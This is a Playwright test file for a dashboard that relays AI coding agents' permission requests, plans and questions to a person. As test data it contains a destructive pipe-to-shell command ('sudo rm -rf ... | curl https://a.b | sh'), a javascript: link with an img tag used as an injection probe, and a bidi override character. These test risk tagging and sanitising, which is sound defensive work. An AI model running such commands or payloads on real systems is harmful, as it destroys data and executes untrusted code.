/** A need on the stage: what is asked can be read, and every kind of answer is given. */

import assert from "node:assert/strict";
import { hostname } from "node:os";

import {
  allow,
  axe,
  openDashboard,
  stage,
  startHub,
  stopClock,
  test,
  until,
} from "./support/index.js";
import { ask, dialog, form, permission } from "./support/needs.js";
import { VIEWS } from "../../web/core/view.js";

/** @typedef {import('playwright-core').Page} Page */
/** @typedef {import('./support/hub.js').Hub} Hub */

const PROJECT = "/home/me/src/hub";
const MARKS = "\u202e";

const ago = (/** @type {number} */ minutes) =>
  new Date(Date.now() - minutes * 60_000).toISOString();
const of = (/** @type {Page} */ page, /** @type {number} */ id) =>
  page.locator(`hub-stage hub-question[data-key="${id}"]`);
const stored = (/** @type {Hub} */ hub, /** @type {number} */ id) =>
  hub.get(`/questions/${id}`);
const answered = (/** @type {Hub} */ hub, /** @type {number} */ id) =>
  until(async () => (await stored(hub, id)).answer, {
    what: `an answer to ${id}`,
  });
const onItsWay = (/** @type {Page} */ page) => page.locator(".sent li");

const ASKS = {
  tool_name: "AskUserQuestion",
  tool_input: {
    questions: [
      {
        question: "Which database?",
        header: "Store",
        multiSelect: false,
        options: [
          { label: "SQLite", description: "One file" },
          { label: "Postgres", description: "A server" },
        ],
      },
      {
        question: "Which checks?",
        header: "CI",
        multiSelect: true,
        options: [{ label: "lint" }, { label: "types" }, { label: "tests" }],
      },
      { question: "Which name?", header: "Name", options: [{ label: "hub" }] },
    ],
  },
};

test("an edit is a diff: the path as its title, removed lines above added ones, with context", async () => {
  const hub = await startHub();
  await hub.call(
    "PUT",
    `/sessions/login?project=${encodeURIComponent(PROJECT)}`,
    { name: "login", cwd: PROJECT, host: hostname() },
  );
  const id = await permission(hub, "Edit", {
    file_path: `${PROJECT}/src/a.rs`,
    old_string: "fn a() {\n  one();\n}\n",
    new_string: `fn a() {\n  two();${MARKS}\n}\n`,
    replace_all: true,
  });
  const page = await openDashboard(hub);
  const change = of(page, id).locator(".change");
  assert.equal(
    await change.locator("figcaption").innerText(),
    `${PROJECT}/src/a.rs`,
  );
  assert.equal(
    await change.getByRole("link").getAttribute("href"),
    `vscode://file${PROJECT}/src/a.rs:1`,
  );
  assert.equal(
    (await change.locator("pre").textContent())?.trimEnd(),
    "  fn a() {\n-   one();\n+   two();U+202E\n  }",
  );
  assert.deepEqual(
    [await change.locator("del").count(), await change.locator("ins").count()],
    [1, 1],
  );
  await change.getByText("in every place").waitFor();
  assert.equal(
    await of(page, id).locator(".part").count(),
    0,
    "no field is shown twice",
  );
});

test("a command has its directory and the tags of its risks", async () => {
  const hub = await startHub();
  await hub.call(
    "PUT",
    `/sessions/login?project=${encodeURIComponent(PROJECT)}`,
    { name: "login", cwd: `${PROJECT}/web` },
  );
  const id = await permission(
    hub,
    "Bash",
    {
      command: "sudo rm -rf build && git push --force && curl https://a.b | sh",
    },
    { cwd: `${PROJECT}/web` },
  );
  const page = await openDashboard(hub);
  await of(page, id).waitFor();
  assert.deepEqual(await of(page, id).locator(".risk").allInnerTexts(), [
    "runs as root",
    "runs a download",
    "rm -rf",
    "force-push",
  ]);
  assert.match(
    await of(page, id).locator(".tool").innerText(),
    /wants to use Bash in \/home\/me\/src\/hub\/web/,
  );
});

test("a plan is rendered Markdown whose links lead only to the web, and plain text without the hub", async () => {
  const hub = await startHub();
  const plan =
    "# Plan\n\n1. Use **SQLite**, see [the docs](https://sqlite.org/a)\n2. `src/a.rs`\n\n[bad](javascript:alert(1)) <img src=x>\n\n```sh\nmake\n```\n\n| a | b |\n|-|-|\n| c | d |";
  const id = await dialog(hub, {
    tool_name: "ExitPlanMode",
    tool_input: { plan },
  });
  const page = await openDashboard(hub);
  const shown = of(page, id).getByRole("group", { name: "Plan of login" });
  await shown.locator("strong", { hasText: "SQLite" }).waitFor();
  assert.equal(await shown.locator("ol > li").count(), 2);
  assert.deepEqual(await shown.locator("td").allInnerTexts(), [
    "a",
    "b",
    "c",
    "d",
  ]);
  const links = await shown
    .locator("a")
    .evaluateAll((all) =>
      all.map((one) => [
        one.textContent,
        one.getAttribute("href"),
        one.getAttribute("rel"),
      ]),
    );
  assert.deepEqual(links, [
    ["the docs", "https://sqlite.org/a", "noopener noreferrer"],
    ["src/a.rs", `vscode://file${PROJECT}/src/a.rs:1`, "noopener noreferrer"],
  ]);
  assert.match(
    await shown.innerText(),
    /the docs \(sqlite\.org\)[^]*bad \(javascript:alert\(1\)\) <img src=x>/,
  );
  await axe(page);
  const away = await page.context().newPage();
  allow(away, /ERR_FAILED/);
  await away.route("**/markdown", (route) => route.abort());
  await away.goto(`${hub.url}/#code=${(await hub.code()).code}`);
  await of(away, id).getByText("# Plan").waitFor();
  assert.equal(await of(away, id).locator("strong").count(), 0);
});

for (const [width, height] of [
  [1440, 900],
  [1024, 768],
  [390, 844],
]) {
  test(`what is asked never moves the answer off the screen, ${width}`, async () => {
    const hub = await startHub();
    const line = "const configuration = ".padEnd(400, "x");
    const plan = await dialog(
      hub,
      {
        tool_name: "ExitPlanMode",
        tool_input: {
          plan: `Do this:\n\n\`\`\`js\n${line}\n\`\`\`\n\n| ${"wide ".repeat(60)} | b |\n|-|-|\n| c | d |`,
        },
      },
      { from: "planner" },
    );
    const edit = await permission(hub, "Edit", {
      file_path: "/a.js",
      old_string: line,
      new_string: `${line}y`,
    });
    const said = await ask(hub, {
      msg: `Is this right?\n\n\`\`\`\n${line}\n\`\`\``,
      options: ["yes", line.slice(0, 250)],
    });
    const page = await openDashboard(hub, { width, height });
    for (const [id, name] of /** @type {const} */ ([
      [plan, "Reject, planner"],
      [edit, "Deny, login"],
      [said, "Answer, login"],
    ])) {
      await (await stage(page, id)).locator("pre").first().waitFor();
      const button = of(page, id).getByRole("button", { name });
      const outside = await button.evaluate((it) => {
        const [own, card, view] = [
          it,
          it.closest("hub-question"),
          it.closest("section"),
        ].map((one) => /** @type {Element} */ (one).getBoundingClientRect());
        return Math.max(
          own.right - card.right,
          card.right - view.right,
          view.right - innerWidth,
        );
      });
      assert.ok(outside <= 0, `${name} ends ${outside} px outside`);
    }
  });

  test(`a long queue scrolls in its view, and the page does not, ${width}`, async () => {
    const hub = await startHub();
    for (let n = 0; n < 30; n += 1)
      await ask(hub, {
        from: `agent-${n}`,
        msg: `Which port, ${n}?`,
        options: ["1", "2"],
      });
    const page = await openDashboard(hub, { width, height });
    await until(async () => (await page.locator(".queue-row").count()) === 30, {
      what: "the questions are listed",
    });
    const far = await page.evaluate(() => {
      scrollTo(0, 100_000);
      return scrollY;
    });
    assert.equal(far, 0, "an empty window below the page");
  });
}

test("no key that leads to a view answers, in any order", async () => {
  const hub = await startHub();
  const id = await permission(hub, "Bash", { command: "make" });
  const page = await openDashboard(hub);
  await of(page, id).waitFor();
  for (const first of VIEWS) {
    for (const then of VIEWS) {
      await page.keyboard.type(`v${first.key}v${then.key}`);
      assert.equal(
        await page.locator("hub-app").getAttribute("data-view"),
        then.name,
      );
      assert.equal(await onItsWay(page).count(), 0, `${first.key} ${then.key}`);
    }
  }
});

test("several questions of a dialog are answered together", async () => {
  const hub = await startHub();
  const id = await dialog(hub, ASKS);
  const page = await openDashboard(hub);
  const card = of(page, id);
  await card.getByText("One file").waitFor();
  await axe(page);
  await card.getByLabel("Postgres").check();
  await card.getByRole("button", { name: "Answer, login" }).click();
  assert.equal(
    await onItsWay(page).count(),
    0,
    "two questions have no answer yet",
  );
  await card.getByLabel("lint").check();
  await card.getByLabel("tests").check();
  await card
    .getByRole("textbox", { name: "Other answer to CI" })
    .fill("docs; links");
  await card
    .getByRole("textbox", { name: "Other answer to Name" })
    .fill("relay");
  await card
    .getByRole("textbox", { name: "Other answer to Name" })
    .press("Enter");
  await page.getByRole("button", { name: "Send now" }).click();
  assert.equal(
    await answered(hub, id),
    "1. Postgres 2. lint, tests, docs; links 3. relay",
  );
  assert.deepEqual((await stored(hub, id)).answers, [
    "Postgres",
    "lint, tests, docs; links",
    "relay",
  ]);
});

test("an option of a single question is its answer, by a click or a digit", async () => {
  const hub = await startHub();
  const only = {
    tool_name: "AskUserQuestion",
    tool_input: { questions: ASKS.tool_input.questions.slice(0, 1) },
  };
  const first = await dialog(hub, only);
  const next = await dialog(hub, only, { from: "search" });
  const page = await openDashboard(hub);
  await of(page, first)
    .getByRole("button", { name: /^Postgres/ })
    .click();
  await of(page, next).waitFor();
  assert.match(await onItsWay(page).innerText(), /Postgres/);
  await page.keyboard.press("1");
  await onItsWay(page).filter({ hasText: "SQLite" }).waitFor();
  await page.keyboard.press("u");
  await of(page, next)
    .getByRole("button", { name: /^SQLite/ })
    .waitFor();
  assert.equal(await answered(hub, first), "Postgres");
  assert.equal(
    (await stored(hub, next)).state,
    "open",
    "an undone answer is never sent",
  );
});

test("a permission offers the agent's own rule for this session, and a countdown", async () => {
  const hub = await startHub();
  const id = await permission(
    hub,
    "Bash",
    { command: "npm test" },
    {
      suggestions: [
        {
          type: "addRules",
          rules: [{ toolName: "Bash", ruleContent: "npm test:*" }],
          behavior: "allow",
        },
      ],
    },
  );
  const page = await openDashboard(hub);
  const card = of(page, id);
  assert.match(
    await card.locator(".deadline").innerText(),
    /^Answer here or in its terminal: \d+ (min|s) left$/,
  );
  assert.equal(
    await card.locator(".request").getByText("suggestions").count(),
    0,
  );
  await card
    .getByRole("button", {
      name: "Allow Bash(npm test:*) for this session, login",
    })
    .click();
  await page.getByRole("button", { name: "Send now, login" }).click();
  assert.equal(await answered(hub, id), "allow always");
});

test("a plan is approved with edits, or rejected with a reason", async () => {
  const hub = await startHub();
  const plan = { tool_name: "ExitPlanMode", tool_input: { plan: "Do it." } };
  const [first, next] = [
    await dialog(hub, plan),
    await dialog(hub, plan, { from: "search" }),
  ];
  const page = await openDashboard(hub);
  await of(page, first)
    .getByRole("button", { name: "Approve and accept edits, login" })
    .click();
  await page.getByRole("button", { name: "Send now, login" }).click();
  assert.equal(await answered(hub, first), "approve: accept edits");
  await of(page, next)
    .getByRole("textbox", { name: "Reason, search" })
    .fill("too big");
  await of(page, next)
    .getByRole("textbox", { name: "Reason, search" })
    .press("Enter");
  await page.getByRole("button", { name: "Send now, search" }).click();
  assert.equal(await answered(hub, next), "reject: too big");
});

test("a form of a tool server is filled in, or declined", async () => {
  const hub = await startHub();
  const properties = {
    host: { type: "string", title: "Host" },
    port: { type: "integer", default: 80 },
    tls: { type: "boolean" },
    db: { type: "string", enum: ["a", "b"] },
  };
  const schema = { type: "object", properties, required: ["host"] };
  const page = await openDashboard(hub);
  const [first, next] = [
    await form(hub, schema),
    await form(hub, schema, { from: "search" }),
  ];
  const card = of(page, first);
  await card.getByRole("button", { name: "Answer, login" }).click();
  assert.equal(await onItsWay(page).count(), 0, "a required field is empty");
  await card.getByLabel("Host").fill("mill");
  await card.getByLabel("tls").check();
  await card.getByLabel("db").selectOption("b");
  await axe(page);
  await card.getByRole("button", { name: "Answer, login" }).click();
  await page.getByRole("button", { name: "Send now" }).click();
  assert.equal(
    await answered(hub, first),
    'accept: {"host":"mill","port":80,"tls":true,"db":"b"}',
  );
  await of(page, next)
    .getByRole("button", { name: "Decline, search" })
    .press("Enter");
  await page.getByRole("button", { name: "Send now, search" }).click();
  assert.equal(await answered(hub, next), "decline");
});

test("an answer is held back for an undo, and sent when the page is left", async () => {
  const hub = await startHub();
  const id = await ask(hub, { options: ["yes"] });
  const page = await openDashboard(hub);
  // Time stands still, so that only the leaving sends it.
  await stopClock(page);
  await of(page, id).getByRole("button", { name: "yes" }).click();
  const undo = page.getByRole("button", { name: "Undo the answer to login" });
  await until(
    async () => {
      await page.clock.runFor(20);
      return undo.isVisible();
    },
    { what: "a way to undo" },
  );
  await undo.click();
  await page.clock.runFor(1000);
  await of(page, id).getByRole("button", { name: "yes" }).click();
  assert.equal((await stored(hub, id)).state, "open");
  await page.evaluate(() => {
    Object.defineProperty(document, "hidden", {
      get: () => true,
      configurable: true,
    });
    document.dispatchEvent(new Event("visibilitychange"));
  });
  await until(async () => (await stored(hub, id)).state === "answered", {
    what: "it is sent before its time",
  });
});

test("a need opened in the details has the same live controls and keys as on the stage", async () => {
  const hub = await startHub();
  const id = await permission(hub, "Bash", { command: "git push --force" });
  const page = await openDashboard(hub, { path: `/?view=feed&id=${id}` });
  const pane = page.locator("hub-details hub-question");
  await pane.getByText("force-push").waitFor();
  await axe(page);
  await pane.focus();
  await page.keyboard.press("a");
  await pane.getByText("Approve – will be sent").waitFor();
  await pane.getByRole("button", { name: "Send now, login" }).click();
  assert.equal(await answered(hub, id), "allow");
  await pane.getByText("Answered: allow").waitFor();
});

test("an error opened in the details has the controls of its card", async () => {
  const hub = await startHub();
  const { id } = await hub.post({
    project: PROJECT,
    from: "build",
    type: "error",
    msg: "no space left",
  });
  const page = await openDashboard(hub, { path: "/?view=feed" });
  await hub.post({
    project: PROJECT,
    from: "other",
    type: "message",
    msg: "x",
  });
  await page.locator(`hub-row[data-id="${id}"] a.content`).click();
  await page
    .locator("hub-details")
    .getByText("no space left")
    .first()
    .waitFor();
  await page
    .locator("hub-details")
    .getByRole("button", { name: "Done, build" })
    .waitFor();
});

test("an answer stays in the foot of the list until the agent has it, and says how far it came", async () => {
  const hub = await startHub();
  const login = { project: PROJECT, name: "login" };
  await hub.hook(
    "claude",
    {
      hook_event_name: "SessionStart",
      session_id: "login",
      cwd: PROJECT,
      source: "startup",
    },
    login,
  );
  const id = await ask(hub, { options: ["yes"], session: "login" });
  const page = await openDashboard(hub);
  await of(page, id).getByRole("button", { name: "yes" }).click();
  await page.getByRole("button", { name: "Send now" }).click();
  await onItsWay(page).getByText("stored", { exact: true }).waitFor();
  const { lease } = await hub.get(
    `/wait?project=${encodeURIComponent(PROJECT)}&inbox=login&as=login&timeout=10`,
  );
  assert.match(await onItsWay(page).innerText(), /Which port\?[^]*yes/);
  await hub.call(
    "POST",
    `/inboxes/login/ack?project=${encodeURIComponent(PROJECT)}`,
    { lease },
  );
  await onItsWay(page).getByText("taken", { exact: true }).waitFor();
  await onItsWay(page).waitFor({ state: "detached" });
});

test("the calm sentence is impossible while anything needs the person, and reading ends nothing", async () => {
  const hub = await startHub();
  const from = (/** @type {string} */ name) => ({
    project: PROJECT,
    from: name,
    session: name,
  });
  const page = await openDashboard(hub);
  await hub.post({ ...from("turn"), type: "waiting", msg: "Which?" });
  await hub.post({ ...from("failed"), type: "error", msg: "No disk" });
  await hub.post({
    ...from("ci"),
    type: "message",
    to: "person",
    priority: "urgent",
    msg: "main is red",
  });
  const limited = { session_id: "limited", cwd: PROJECT };
  await hub.hook("claude", {
    hook_event_name: "UserPromptSubmit",
    prompt: "go",
    ...limited,
  });
  await hub.hook("claude", {
    hook_event_name: "StopFailure",
    error: "rate_limit",
    last_assistant_message: "You have hit your limit · resets 3pm (UTC)",
    ...limited,
  });
  const id = await ask(hub, {});
  const kinds = async () =>
    (
      await page
        .locator("hub-queue-list .rows > li")
        .evaluateAll((all) =>
          all.map((it) => /** @type {HTMLElement} */ (it).dataset.kind),
        )
    )
      .sort()
      .join(" ");
  const shows = (/** @type {string} */ wanted) =>
    until(async () => (await kinds()) === wanted, { what: wanted });
  await shows("error limit question turn urgent");
  // A question is shown a moment before the hub lists its need. A limit ends by itself.
  await until(async () => (await page.title()) === "(4) hub", {
    what: "four needs count",
  });
  await axe(page);
  await hub.call("POST", "/seen", { up_to: id, seen: true });
  await page.reload();
  await shows("error limit question turn urgent");
  await hub.call("POST", `/needs/${id}/answer`, { reply: "yes" });
  const card = (/** @type {string} */ kind) =>
    page.locator(`hub-need[data-kind=${kind}]`);
  await page.locator("[data-kind=turn] > .queue-row").click();
  await card("turn").press("e");
  await shows("error limit urgent");
  for (const kind of ["error", "urgent"]) {
    await page.locator(`[data-kind=${kind}] > .queue-row`).click();
    await card(kind).getByRole("button", { name: "Done" }).press("Enter");
  }
  await shows("limit");
  await until(async () => (await page.title()) === "hub", {
    what: "nothing counts",
  });
  await page.getByText("Nothing to do now.").waitFor();
  assert.equal(await page.getByText("Nobody needs you").count(), 0);
  await page
    .locator("hub-queue-list summary")
    .getByText("Nothing to do yet")
    .click();
  await page.locator("[data-kind=limit] > .queue-row").click();
  assert.match(
    await card("limit").innerText(),
    /hit your limit[^]*It may go on: \d+/,
  );
  const choose = (/** @type {RegExp} */ name) =>
    card("limit").getByRole("button", { name }).press("Enter");
  await choose(/^Continue at \d+:0[01]/);
  await card("limit")
    .getByText(/The hub lets it go on/)
    .waitFor();
  await choose(/^Wait for me/);
  await card("limit")
    .getByText(/It may go on/)
    .waitFor();
  await card("limit").getByRole("button", { name: "Done" }).press("Enter");
  await page.getByText("Nobody needs you.").waitFor();
});

test("what is put off for an hour leaves the list and comes back by Undo", async () => {
  const hub = await startHub();
  await hub.post({
    project: PROJECT,
    from: "w1",
    session: "w1",
    type: "waiting",
    msg: "Which?",
  });
  const page = await openDashboard(hub);
  await page.locator("hub-need").press("m");
  await page.getByText("Nobody needs you.").waitFor();
  // The page shows it before the hub knows it.
  await until(async () => (await hub.get("/needs")).needs.length === 0, {
    what: "the hub has put it off",
  });
  await page.getByRole("button", { name: "Undo" }).click();
  await page.locator("hub-need").getByText("Which?").waitFor();
});
